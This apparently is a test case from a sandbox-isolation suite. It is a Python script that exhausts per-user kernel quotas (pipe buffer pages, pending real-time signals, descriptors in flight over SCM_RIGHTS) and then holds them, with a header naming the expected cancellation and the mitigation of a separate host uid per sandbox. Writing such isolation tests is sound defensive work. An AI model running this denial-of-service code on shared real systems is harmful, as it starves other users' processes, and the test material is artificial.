# attack: uses up what the kernel counts for each user: pipe pages, pending signals, descriptors in flight, locked memory
# family: between-runs
# pair: live
# expect: outcome OUTCOME_CANCELLED
# stops-it: host uid of its own for each live sandbox
import array
import fcntl
import os
import signal
import socket
import time

F_SETPIPE_SZ = 1031
kept = []
try:
    while len(kept) < 60:
        pipe = os.pipe()
        kept.append(pipe)
        fcntl.fcntl(pipe[1], F_SETPIPE_SZ, 1 << 20)
except OSError:
    pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(34, 65))
try:
    for number in range(20000):
        os.kill(os.getpid(), 34 + number % 30)
except OSError:
    pass
left, right = socket.socketpair()
fds = array.array("i", [fd for pipe in kept[:30] for fd in pipe])
try:
    left.setblocking(False)
    while True:
        left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
except OSError:
    pass
print("READY", flush=True)
time.sleep(60)
